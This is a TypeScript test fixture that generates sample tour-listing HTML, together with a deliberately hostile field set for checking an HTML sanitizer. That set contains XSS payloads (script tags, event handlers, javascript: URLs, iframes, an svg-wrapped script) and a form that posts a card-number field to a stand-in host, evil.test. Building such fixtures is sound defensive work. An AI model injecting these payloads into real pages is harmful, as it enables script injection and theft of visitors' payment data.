/** The HTML fields of a tour, as a provider would send them (and one hostile set for tests). */
import type { TourHtml } from './types.js';
import type { TourSpec } from './tour-specs.js';

export function tourHtml(spec: TourSpec, cityName: string, firstTime: string): TourHtml {
  if (spec.xss) return xssHtml();
  const pickup = spec.pickup && spec.pickup !== 'on-request';
  return {
    itinerary: [
      `<h3>${spec.name}</h3>`,
      '<ol>',
      `<li><strong>${firstTime}</strong> Meet your guide${pickup ? ' or board at your pickup point' : ''}.</li>`,
      `<li>${spec.summary}</li>`,
      '<li>Free time for photos and refreshments.</li>',
      `<li>Return to central ${cityName}.</li>`,
      '</ol>',
    ].join(''),
    included:
      '<ul><li>Professional guide</li><li>Entry tickets where stated</li><li>Bottled water</li></ul>',
    excluded:
      '<ul><li>Gratuities</li><li>Hotel drop-off</li><li>Food and drinks unless stated</li></ul>',
    essential_information:
      '<p>Bring a <strong>valid photo ID</strong> and wear comfortable shoes.</p><p>The tour runs in light rain.</p>',
    please_note:
      '<p>Itinerary may change because of traffic or weather. See the <a href="https://example.com/terms" target="_blank" rel="noopener">terms</a>.</p>',
    departure_point: pickup
      ? '<p>Hotel pickup from the selected point.</p>'
      : `<p>Meet at the visitor kiosk, ${cityName} centre.<br>Look for the guide with the orange umbrella.</p>`,
    departure_time: `<p>${firstTime}; please arrive <em>15 minutes</em> early.</p>`,
    return_details: `<p>Returns to the departure point in ${cityName}.</p>`,
  };
}

/** Payloads a sanitizer must neutralise: scripts, event handlers, javascript: URLs, frames. */
function xssHtml(): TourHtml {
  return {
    itinerary:
      '<h3>Itinerary</h3><ol><li>Walk the bridge<script>window.__xss = (window.__xss || 0) + 1</script></li><li><img src="x" onerror="window.__xss = (window.__xss || 0) + 1">Photo stop</li></ol>',
    included:
      '<ul><li>Guide</li><li><a href="javascript:window.__xss=(window.__xss||0)+1">Free map</a></li></ul>',
    excluded:
      '<ul><li onclick="window.__xss=1">Food</li><li><iframe src="javascript:alert(1)"></iframe>Drinks</li></ul>',
    essential_information:
      '<p>Bring water.</p><svg><script>window.__xss=1</script></svg><style>body{display:none}</style>',
    please_note:
      '<p><a href="JaVaScRiPt:alert(1)">Terms</a> and <form action="https://evil.test"><input name="card"></form></p>',
    departure_point:
      '<p onmouseover="window.__xss=1">Brooklyn side of the bridge</p><object data="javascript:alert(1)"></object>',
    departure_time: '<p>18:00<img src=x onerror=alert(1)></p>',
    return_details: '<p>Ends in DUMBO.<math><mi xlink:href="javascript:alert(1)">x</mi></math></p>',
  };
}
